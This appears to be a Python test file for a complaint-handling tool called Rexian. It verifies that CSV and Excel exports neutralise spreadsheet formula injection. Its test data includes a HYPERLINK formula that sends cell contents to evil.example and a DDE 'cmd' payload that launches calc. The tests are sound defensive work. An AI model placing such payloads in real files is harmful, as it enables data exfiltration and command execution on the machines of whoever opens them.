"""Outputs safe to open: a citizen's `=HYPERLINK(...)` or `cmd|...` never becomes a live formula in any CSV or
Excel file Rexian writes (OWASP's rule: cells starting with = + - @ tab CR are neutralised)."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from rexian.domain.safe_cells import FORMULA_STARTS, neutralise, restore
from rexian.importing.excel_report import write_findings_workbook
from rexian.importing.rejects import RejectLog

ATTACKS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "'=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_formula_start_is_neutralised_and_restorable(attack):
    safe = neutralise(attack)
    assert safe.startswith("'") and restore(safe) == attack


def test_plain_text_and_numbers_are_left_as_they_are():
    assert [neutralise(v) for v in ("小区路灯不亮", "'引号开头", -5, 3.5, None)] == ["小区路灯不亮", "'引号开头", -5, 3.5, None]


@given(st.text(max_size=30))
def test_neutralising_never_leaves_a_formula_and_restore_undoes_it(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS) and restore(safe) == text


def test_the_rejects_file_carries_no_live_formula(tmp_path):
    log = RejectLog()
    for number, attack in enumerate(ATTACKS, start=2):
        log.add(attack, number, "=col", attack, "@reason")
    path = tmp_path / "rejects.csv"
    log.write_csv(path)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in list(csv.reader(handle))[1:] for cell in row]
    assert cells and not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_the_findings_workbook_carries_no_formula(tmp_path):
    findings = [{"finding_key": attack, "rule_id": "R1", "family": "buck_passing", "severity": "high",
                 "ticket_ids": ["T1"], "unit_id": attack, "person_id": "-P1", "agent_id": None,
                 "evidence": {"texts": [attack]}, "detected_at": "2026-03-02", "status": "new"} for attack in ATTACKS]
    path = tmp_path / "findings.xlsx"
    write_findings_workbook(findings, path, metrics={"=bad": "=HYPERLINK(1)"})
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))


# A bare carriage return inside a cell is a separate, known limit of the interchange CSV writer (Python's csv
# module quotes only the `\n` line end, so the cell is split on reading; docs/trust.md), not of the guard.
@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if "\r" not in attack])
def test_a_formula_in_a_complaint_is_quoted_in_the_interchange_csv_and_reads_back_unchanged(tmp_path, attack):
    from datetime import datetime

    from rexian.adapters.interchange_files import TableWriter, read_table
    from rexian.analytics.tables import from_directories

    ticket = {"ticket_id": "GD001", "status": "received", "received_at": datetime(2026, 3, 2, 8, 30),
              "title": attack, "content": attack, "address": "东华门", "source": "rexian", "lon": -73.5}
    event = {"ticket_id": "GD001", "seq": 1, "at": datetime(2026, 3, 2, 8, 30), "action": "TicketReceived",
             "actor_id": attack, "payload": {"content": attack}, "source": "rexian", "prev_hash": "0", "hash": "h"}
    for fmt in ("csv", "parquet"):
        with TableWriter(tmp_path / fmt, (fmt,)) as writer:
            writer.write("tickets", [ticket])
            writer.write("events", [event])
    text = (tmp_path / "csv" / "tickets.csv").read_bytes().decode("utf-8")
    guarded = ("'" + attack).replace('"', '""')
    assert text.count(guarded) == 2 and text.count(guarded[1:]) == 2  # no live formula in a spreadsheet
    assert ",-73.5," in text  # numbers are numbers, not guarded
    for table in ("tickets", "events"):
        assert read_table(tmp_path / "csv" / f"{table}.csv", table).equals(
            read_table(tmp_path / "parquet" / f"{table}.parquet", table)), table
    assert read_table(tmp_path / "csv" / "tickets.csv", "tickets").column("content").to_pylist() == [attack]
    from_csv = from_directories([tmp_path / "csv"]).con.con
    assert from_csv.execute("SELECT content FROM raw_tickets").fetchall() == [(attack,)]
    assert from_csv.execute("SELECT actor_id FROM raw_events").fetchall() == [(attack,)]
